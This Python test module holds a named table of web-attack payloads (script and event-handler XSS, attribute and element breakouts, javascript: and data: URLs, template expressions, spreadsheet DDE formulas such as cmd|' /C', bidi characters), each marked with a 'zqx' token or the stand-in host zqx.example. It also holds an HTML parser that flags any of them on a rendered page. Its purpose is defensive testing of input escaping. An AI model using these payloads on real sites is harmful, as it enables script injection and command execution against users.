"""Payloads of an attacker for text fields, and the check of a page for them. Every payload calls, loads or names
zqx, which the product never uses. So zqx anywhere except in text came from a field."""
import html.parser
import re

from kitdemo import MANY

WILD, STILL, REFUSED = "wild", "still", "refused"
# name: (kind, text). WILD: on a page that echoes it unescaped, it creates elements or runs. STILL: it targets something
# other than a page (a template, a spreadsheet, a header). REFUSED: invisible characters, which no line of text may
# contain.
TABLE = {
    # elements
    "script": (WILD, "<script>zqx(1)</script>"),
    "script-src": (WILD, "<script src=//zqx.example/x.js></script>"),
    "script-case": (WILD, "<ScRiPt >zqx(2)</sCrIpT >"),
    "script-nested": (WILD, "<scr<script>ipt>zqx(3)</scr</script>ipt>"),
    "script-open": (WILD, "<script>zqx(4)//"),
    "img": (WILD, "<img src=x onerror=zqx(5)>"),
    "img-slash": (WILD, "<img/src='x'/onerror='zqx(6)'>"),
    "img-open": (WILD, "<img src=x onerror=zqx(7) x"),
    "img-grave": (WILD, "<img src=`x` onerror=zqx`8`>"),
    "svg": (WILD, "<svg onload=zqx(9)></svg>"),
    "svg-script": (WILD, "<svg><script>zqx&#40;10&#41;</script></svg>"),
    "svg-animate": (WILD, "<svg><animate onbegin=zqx(11) attributeName=x dur=1s></svg>"),
    "svg-use": (WILD, "<svg><use href='data:image/svg+xml,zqx12#x'/></svg>"),
    "svg-foreign": (WILD, "<svg><foreignObject><iframe srcdoc='zqx13'></iframe></foreignObject></svg>"),
    "math": (WILD, "<math><maction actiontype=statusline href=javascript:zqx(14)>zqx</maction></math>"),
    "math-style": (WILD, "<math><mtext><style><img src=x onerror=zqx(15)></style></mtext></math>"),
    "iframe": (WILD, "<iframe src=javascript:zqx(16)></iframe>"),
    "iframe-doc": (WILD, "<iframe srcdoc='&lt;script&gt;zqx(17)&lt;/script&gt;'></iframe>"),
    "object": (WILD, "<object data=javascript:zqx(18)></object>"),
    "embed": (WILD, "<embed src=//zqx.example/x.svg>"),
    "details": (WILD, "<details open ontoggle=zqx(19)>zqx</details>"),
    "focus": (WILD, "<input autofocus onfocus=zqx(20)>"),
    "video": (WILD, "<video><source onerror=zqx(21)></video>"),
    "body": (WILD, "<body onload=zqx(22)>"),
    "marquee": (WILD, "<marquee onstart=zqx(23)>zqx</marquee>"),
    "meta": (WILD, "<meta http-equiv=refresh content='0;url=//zqx.example/'>"),
    "base": (WILD, "<base href=//zqx.example/>"),
    "link": (WILD, "<link rel=stylesheet href=//zqx.example/x.css>"),
    "form": (WILD, "<form action=//zqx.example/><button>zqx24</button></form>"),
    "button": (WILD, "<button formaction=javascript:zqx(25)>zqx</button>"),
    "template": (WILD, "<template><img src=x onerror=zqx(26)></template>"),
    "element": (WILD, "<zqx-27 onclick=zqx(27) tabindex=0>zqx</zqx-27>"),
    # out of an attribute
    "attr-double": (WILD, "zqx28\" onmouseover=\"zqx(28)\" x=\""),
    "attr-single": (WILD, "zqx29' onmouseover='zqx(29)' x='"),
    "attr-focus": (WILD, "zqx30\" autofocus onfocus=\"zqx(30)"),
    "attr-close": (WILD, "zqx31\"><script>zqx(31)</script>"),
    "attr-close-single": (WILD, "zqx32'><img src=x onerror=zqx(32)>"),
    "attr-style": (WILD, "zqx33\" style=\"background:url(//zqx.example/x)"),
    # out of an element that contains only text
    "title": (WILD, "</title><script>zqx(34)</script>"),
    "textarea": (WILD, "</textarea><script>zqx(35)</script>"),
    "script-end": (WILD, "</script><script>zqx(36)</script>"),
    "style-end": (WILD, "</style><svg onload=zqx(37)>"),
    "option": (WILD, "</option></select><img src=x onerror=zqx(38)>"),
    "comment-end": (WILD, "--><img src=x onerror=zqx(39)><!--"),
    "comment-bang": (WILD, "--!><svg onload=zqx(40)>"),
    "cdata": (WILD, "]]><script>zqx(41)</script><![CDATA["),
    "noscript": (WILD, "<noscript><p title=\"</noscript><img src=x onerror=zqx(42)>\">"),
    # URLs
    "url": (WILD, "javascript:zqx(43)"),
    "url-case": (WILD, "JaVaScRiPt:zqx(44)//http://example.com/"),
    "url-data": (WILD, "data:text/html,<script>zqx(45)</script>"),
    "url-vb": (WILD, "vbscript:zqx(46)"),
    # templates, styles, encodings
    "mustache": (STILL, "{{csrf}} {{{csrf}}} {{&csrf}} zqx47"),
    "mustache-partial": (STILL, "{{> dash/head}}{{#who}}zqx48{{/who}}{{=<% %>=}}"),
    "expression": (STILL, "${zqx(49)} #{zqx} <%= zqx %> {{constructor.constructor('zqx(49)')()}}"),
    "css": (STILL, "}*{background:url(//zqx.example/50)}/*"),
    "entities": (STILL, "&lt;script&gt;zqx(51)&lt;/script&gt; &#60;b&#62; &amp;amp;"),
    "percent": (STILL, "%3Cscript%3Ezqx(52)%3C/script%3E \\u003cimg\\u003e \\x3cb\\x3e"),
    "full-width": (STILL, "＜script＞zqx(53)＜/script＞ ＂onload＝zqx(53)"),
    # a spreadsheet's
    "formula": (STILL, "=HYPERLINK(\"//zqx.example/54\";\"zqx\")"),
    "formula-plus": (STILL, "+cmd|' /C zqx55'!A0"),
    "formula-at": (STILL, "@SUM(1+1)*cmd|' /C zqx56'!A0"),
    "formula-cell": (STILL, "zqx57\",=1+1,\"\";-2+3;\"x"),
    # invisible characters
    "tab": (REFUSED, "zqx58\t=1+1"),
    "bidi": (REFUSED, "zqx59 \u202etpircs\u202c onerror"),
    "line": (REFUSED, "zqx60\u2028<script>zqx(60)</script>"),
}
if not MANY:
    # For memory the particular payload does not matter: some of each kind.
    TABLE = {name: one for n, (name, one) in enumerate(TABLE.items()) if n % 7 == 0 or one[0] == REFUSED}
PAYLOADS = {name: text for name, (_, text) in TABLE.items()}
TAKEN = {name: text for name, (kind, text) in TABLE.items() if kind != REFUSED}
ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster", "ping", "background", "manifest")
SCHEME = re.compile(r"^[\x00-\x20]*(javascript|vbscript|data)\s*:", re.I)
# The pages' own icon, and a QR code.
ICON = re.compile(r"data:image/(svg\+xml|png)[;,](?!.*zqx)", re.S)
SPACE = re.compile(r"\s+")


def plain(text):
    """A text normalized for comparison: any white space is one space."""
    return SPACE.sub(" ", text).strip()


class Look(html.parser.HTMLParser):
    """The content of a page: its texts and values, and all foreign elements."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.faults, self.said, self._in, self._text = [], [], [], ""
        self.feed(text)
        self.close()
        self._keep()
        self.words = " \x00 ".join(self.said)

    def _keep(self):
        if self._text.strip():
            self.said.append(plain(self._text))
        self._text = ""

    def fault(self, what):
        self.faults.append("%s (line %d)" % (what[:200], self.getpos()[0]))

    def handle_starttag(self, tag, attrs):
        self._keep()
        names = [name for name, _ in attrs]
        if tag == "script" and not (dict(attrs).get("src") or "").startswith("/assets/"):
            self.fault("<script> of a page's own")
        if "zqx" in tag or not re.fullmatch("[a-z][a-z0-9]*", tag) or tag in ("base", "embed", "object", "iframe", "math", "foreignobject", "marquee", "noscript", "template"):
            self.fault("<%s>" % tag)
        if len(names) != len(set(names)):
            self.fault("<%s> has an attribute twice" % tag)
        for name, value in attrs:
            self._attribute(tag, name, value or "")
        if tag in ("script", "style"):
            self._in.append(tag)

    def _attribute(self, tag, name, value):
        if name.startswith("on") or name == "srcdoc" or not re.fullmatch(r"[a-z][a-z0-9:-]*", name):
            self.fault("<%s %s=%s>" % (tag, name, value))
        elif name in ADDRESSES and (SCHEME.match(value) and not ICON.match(value) or re.match(r"\s*[/\\]{2}|https?:.*zqx", value)):
            self.fault("<%s %s=%s>" % (tag, name, value))
        elif "zqx" in value and (name in ("style", "class", "id", "http-equiv", "rel", "type", "name")
                                 or name == "content" and tag == "meta"):
            self.fault("<%s %s=%s>" % (tag, name, value))
        if value:
            self.said.append(plain(value))

    def handle_endtag(self, tag):
        self._keep()
        if self._in and self._in[-1] == tag:
            self._in.pop()

    def handle_data(self, data):
        if self._in:
            if "zqx" in data:
                self.fault("<%s> holds %s" % (self._in[-1], data))
        else:
            self._text += data

    def handle_comment(self, data):
        if "zqx" in data or "script" in data:
            self.fault("<!-- %s" % data)

    def unknown_decl(self, data):
        self.fault("<![ %s" % data)

    def shows(self, text):
        return plain(text) in self.words


def check(where, text):
    """Checks the page: all its elements are ours."""
    page = Look(text)
    assert not page.faults, "%s:\n  %s" % (where, "\n  ".join(page.faults[:8]))
    return page
